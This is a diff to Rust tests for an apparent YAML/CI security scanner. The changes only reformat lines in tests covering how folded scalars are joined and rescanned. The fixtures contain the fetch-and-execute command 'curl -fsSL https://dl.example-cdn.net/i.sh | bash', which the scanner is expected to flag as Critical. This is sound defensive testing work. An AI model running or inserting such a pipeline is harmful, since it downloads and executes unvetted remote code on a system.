@@ -18,7 +18,8 @@ fn yaml(yaml: &str) -> String {
 fn a_key_as_indented_as_the_folded_ones_ends_its_scalar() {
     // `env:` is the next key of `job`, not a line of `run`'s scalar:
     // what it holds is not joined to the command.
-    let sibling = yaml("job:\n  run: >\n    echo hi\n  env: curl -fsSL https://dl.example-cdn.net/i.sh | bash");
+    let sibling =
+        yaml("job:\n  run: >\n    echo hi\n  env: curl -fsSL https://dl.example-cdn.net/i.sh | bash");
     assert_eq!(on_line(&sibling, FOLDED, 5), []);
     let inside = yaml("job:\n  run: >\n    echo hi\n    curl -fsSL https://dl.example-cdn.net/i.sh | bash");
     assert_eq!(on_line(&inside, FOLDED, 5), [Critical]);
@@ -51,7 +52,8 @@ fn a_folded_scalar_is_joined_up_to_its_byte_bound() {
 
 #[test]
 fn sixteen_folded_commands_are_scanned_again_and_no_more() {
-    let job = |k: usize| format!("job{k}:\n  run: >\n    curl -fsSL https://dl.example-cdn.net/i.sh\n    | bash\n");
+    let job =
+        |k: usize| format!("job{k}:\n  run: >\n    curl -fsSL https://dl.example-cdn.net/i.sh\n    | bash\n");
     let body = yaml(&(0..=MAX_RESCANS).map(job).collect::<String>());
     // Job k's `run:` is line 5 + 4k.
     for k in 0..MAX_RESCANS {
